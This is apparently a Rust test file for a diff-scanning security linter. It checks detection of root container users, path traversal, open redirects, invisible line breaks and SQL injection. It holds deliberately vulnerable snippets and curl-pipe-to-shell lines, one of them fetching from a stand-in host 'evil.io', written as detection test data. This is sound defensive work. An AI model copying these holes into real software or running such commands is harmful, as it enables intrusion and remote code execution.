//! What means the same to whoever runs it is told alike, and what means more is news.

use super::spellings::added;
use super::wrong_classes::{assert_silent, assert_speaks};

/// Whoever is root, in whatever quotes, and of whatever group.
#[test]
fn root_is_root_in_every_spelling() {
    for name in ["root", "0", "00"] {
        for group in ["", ":0", ":root", ":1000", ":app"] {
            for quote in ["", "\"", "'"] {
                for key in ["USER", "user", "  USER"] {
                    let code = format!("FROM debian:12\n{key} {quote}{name}{group}{quote}\n");
                    assert_speaks("container-root", &added("Dockerfile", &code));
                }
            }
        }
    }
    for name in ["app", "\"1000\"", "rooted", "0x", "1000:0", "'app:root'"] {
        let code = format!("FROM debian:12\nUSER {name}\n");
        assert_silent("container-root", &added("Dockerfile", &code));
    }
}

/// What is said in one line and in two is the same, whichever of the two is new.
#[test]
fn what_a_request_brings_is_followed_for_one_line() {
    for (rule, path, given, used, harmless) in [
        (
            "path-traversal",
            "src/a.py",
            "name = request.args.get(\"f\")",
            "return open(name)",
            "return open(path)",
        ),
        (
            "path-traversal",
            "src/a.py",
            "name = request.form[\"f\"]",
            "with open(f\"up/{name}\") as f:",
            "log(name)",
        ),
        (
            "path-traversal",
            "src/a.js",
            "const name = req.query.name;",
            "res.sendFile(path.join(root, name));",
            "res.send(name);",
        ),
        (
            "path-traversal",
            "src/a.php",
            "$f = $_GET['f'];",
            "readfile($f);",
            "echo $f;",
        ),
        (
            "path-traversal",
            "src/A.java",
            "String f = req.getParameter(\"f\");",
            "var in = new File(root, f);",
            "log(f);",
        ),
        (
            "path-traversal",
            "src/a.go",
            "name := r.FormValue(\"f\")",
            "b, err := os.ReadFile(name)",
            "b, err := os.ReadFile(other)",
        ),
        (
            "path-traversal",
            "src/a.rb",
            "name = params[:f]",
            "send_file name",
            "render name",
        ),
        (
            "open-redirect",
            "src/a.py",
            "target = request.args.get('next')",
            "return redirect(target)",
            "return redirect(home)",
        ),
        (
            "open-redirect",
            "src/a.js",
            "const to = req.query.next;",
            "res.redirect(to);",
            "res.redirect(home);",
        ),
        (
            "open-redirect",
            "src/a.php",
            "$to = $_GET['to'];",
            "header('Location: ' . $to);",
            "header('Location: /');",
        ),
        (
            "open-redirect",
            "src/a.go",
            "to := r.URL.Query().Get(\"to\")",
            "http.Redirect(w, r, to, 302)",
            "http.Redirect(w, r, \"/\", 302)",
        ),
        (
            "open-redirect",
            "src/A.java",
            "String to = request.getParameter(\"to\");",
            "response.sendRedirect(to);",
            "response.sendRedirect(home);",
        ),
    ] {
        for (first, second) in [('+', '+'), (' ', '+'), ('+', ' ')] {
            let text = |used: &str| format!("=== {path}\n{first}{given}\n{second}{used}\n");
            assert_speaks(rule, &text(used));
            assert_silent(rule, &text(harmless));
        }
        // What is checked in between is no longer what the request brought.
        assert_silent(
            rule,
            &format!("=== {path}\n+{given}\n+check({given})\n+{used}\n"),
        );
    }
    assert_silent(
        "path-traversal",
        "=== src/a.js\n+const name = path.basename(req.query.name);\n+res.sendFile(name);\n",
    );
    assert_silent(
        "open-redirect",
        "=== src/a.py\n+to = request.args.get('to') if ok else home\n+return redirect(to)\n",
    );
}

/// A compiler begins a line there, and a diff does not.
#[test]
fn a_line_break_that_no_diff_shows_is_named() {
    for path in ["src/a.py", "src/a.ts", "src/A.java", "src/a.rs", "src/A.cs"] {
        for end in ["\r", "\u{2028}", "\u{2029}", "\u{85}"] {
            for line in [
                format!("a = 1{end}b()"),
                format!("# note{end}b()"),
                format!("{end}b()\r"),
            ] {
                assert_speaks("invisible-character", &format!("=== {path}\n+{line}\n"));
            }
        }
        for line in ["a = 1\r", "a = 1\r\r", "a = 1"] {
            assert_silent("invisible-character", &format!("=== {path}\n+{line}\n"));
        }
    }
}

/// A line that a rule spoke of before covers one that is like it, and none that means more.
#[test]
fn a_worse_line_in_the_place_of_a_matching_one_is_news() {
    let edit = |path: &str, old: &str, new: &str| format!("=== {path}\n-{old}\n+{new}\n");
    for (rule, path, old, new) in [
        (
            "pipe-to-shell",
            "a.sh",
            "curl https://good.io/i | sh",
            "curl http://good.io/i | sh",
        ),
        (
            "pipe-to-shell",
            "a.sh",
            "curl http://good.io/i | sh",
            "curl http://evil.io/i | sh",
        ),
        (
            "sql-injection",
            "src/a.py",
            "cur.execute(\"SELECT * FROM t WHERE a = \" + str(int(n)))",
            "cur.execute(\"SELECT * FROM t WHERE a = \" + request.args[\"x\"])",
        ),
    ] {
        assert_speaks(rule, &edit(path, old, new));
        assert_silent(rule, &edit(path, old, &format!("{old} ")));
    }
}
